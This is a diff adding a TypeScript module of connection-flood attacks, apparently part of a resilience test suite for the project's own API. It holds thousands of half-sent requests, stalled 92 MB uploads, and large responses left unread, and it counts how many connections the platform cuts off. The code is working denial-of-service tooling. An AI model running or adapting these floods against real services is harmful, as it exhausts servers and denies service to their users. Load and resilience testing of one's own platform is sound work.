@@ -1,0 +1,107 @@
+// Attacks that keep connections open: bodies without their end, responses that are not read, half requests.
+import { connect, type Socket } from 'node:net'
+import { setTimeout as delay } from 'node:timers/promises'
+import { type Attack, createSealed, type Outcome, type Victim } from './flood.ts'
+import { ATTACKER_ADDRESS, callFrom } from './honest-callers.ts'
+
+const socketTo = (base: string): Promise<Socket | undefined> => {
+  const { hostname, port } = new URL(base)
+  return new Promise((resolve) => {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS })
+    socket.once('connect', () => resolve(socket))
+    socket.on('error', () => resolve(undefined))
+  })
+}
+
+/**
+ * Opens sockets, does the same on each and keeps them for the time of the attack; counts those that the platform ended.
+ */
+const hold = async (
+  count: number,
+  seconds: number,
+  base: string,
+  work: (socket: Socket) => Promise<void> | void,
+): Promise<Outcome> => {
+  const sockets = (await Promise.all(Array.from({ length: count }, () => socketTo(base)))).filter(
+    (socket) => socket !== undefined,
+  )
+  const end = performance.now() + seconds * 1000
+  await Promise.all(
+    sockets.map((socket) => Promise.race([work(socket), delay(seconds * 1000, undefined, { ref: false })])),
+  )
+  await delay(Math.max(0, end - performance.now()))
+  const ended = sockets.filter(({ destroyed, readableEnded }) => destroyed || readableEnded).length
+  for (const socket of sockets) socket.destroy()
+  return { opened: sockets.length, ended }
+}
+
+const MIB = 1024 * 1024
+const chunk = Buffer.alloc(MIB, 'A')
+/** Nearly as much as the route accepts. */
+const UPLOAD_BYTES = 92_000_000
+
+const uploads: Attack = {
+  name: '20 bodies of 92 MB by one free account, held open before their last byte',
+  run: ({ attacker }, seconds) =>
+    hold(20, seconds, attacker.apiUrl, async (socket) => {
+      socket.on('data', () => undefined)
+      socket.write(
+        `PUT /api/contact-data/${attacker.userId}/file HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\n` +
+          `Content-Type: application/json\r\nContent-Length: ${UPLOAD_BYTES}\r\n\r\n{"file":"`,
+      )
+      for (let index = 0; index < Math.floor(UPLOAD_BYTES / MIB) && !socket.destroyed; index += 1) {
+        if (!socket.write(chunk))
+          await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), delay(2_000)])
+      }
+    }),
+}
+
+const unreadResponses: Attack = {
+  name: '100 callers who ask for large answers and do not read them',
+  run: ({ frontDoor }, seconds) =>
+    hold(100, seconds, frontDoor, (socket) => {
+      socket.pause()
+      socket.write('GET /openapi/account.json HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(20))
+    }),
+}
+
+const halfRequests: Attack = {
+  name: '2,000 connections with half a request',
+  run: ({ region }, seconds) =>
+    hold(2_000, seconds, region, (socket) => {
+      socket.on('data', () => undefined)
+      socket.write('GET /api/health HTTP/1.1\r\nHost: a\r\nX-Slow: ')
+    }),
+}
+
+const LARGEST_VALUE_BYTES = 48_000
+const MAX_ROWS = 500
+
+/** Fills the list to its quota; refused calls are repeated when the platform allows it. */
+const fillContactData = async ({ attacker: { apiUrl, token } }: Victim): Promise<void> => {
+  const send = (method: string, path: string, body?: object) =>
+    callFrom(ATTACKER_ADDRESS, apiUrl, method, path, { token, ...(body && { body }) })
+  const fields: Array<{ id: string; slug: string }> = JSON.parse((await send('GET', '/api/contact-fields')).text)
+  const contact_field_id = fields.find(({ slug }) => slug === 'phone')?.id
+  for (let rowCount = 0; rowCount < MAX_ROWS; ) {
+    const { status } = await send('POST', '/api/contact-data', {
+      contact_field_id,
+      value: createSealed(LARGEST_VALUE_BYTES),
+    })
+    if (status === 201) rowCount += 1
+    else if (status === 429) await delay(200)
+    else return
+  }
+}
+
+const unreadLists: Attack = {
+  name: '30 readers of a full list of contact data who do not read their answers, by one free account',
+  prepare: fillContactData,
+  run: ({ attacker: { apiUrl, token } }, seconds) =>
+    hold(30, seconds, apiUrl, (socket) => {
+      socket.pause()
+      socket.write(`GET /api/contact-data HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\n\r\n`)
+    }),
+}
+
+export const connectionFloods: readonly Attack[] = [uploads, unreadResponses, unreadLists, halfRequests]
